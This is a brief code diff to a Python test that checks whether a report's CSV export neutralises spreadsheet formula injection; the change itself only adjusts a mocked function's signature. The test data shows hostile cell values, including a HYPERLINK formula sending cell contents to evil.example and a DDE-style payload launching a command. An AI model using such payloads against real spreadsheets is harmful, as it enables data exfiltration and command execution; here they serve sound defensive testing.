@@ -95,7 +95,7 @@ def test_the_store_reads_the_newest_misses_of_one_server_without_chit_chat_or_cl
 
 def test_report_csv_neutralises_formulas_and_the_text_report_control_characters(project, config, capsys, monkeypatch):
     """t19: a question starting with = + - @ would run as a spreadsheet formula."""
-    monkeypatch.setattr(encoder_module, "load_encoder", lambda c: FakeEncoder())
+    monkeypatch.setattr(encoder_module, "load_encoder", lambda c, **options: FakeEncoder())
     answerer = fake_resources(config).answerer
     store = Store(config.database_path)
     hostile = ['=HYPERLINK("https://evil.example/x?d="&A1,"Click")', "+cmd|' /C calc'!A0 recipes",
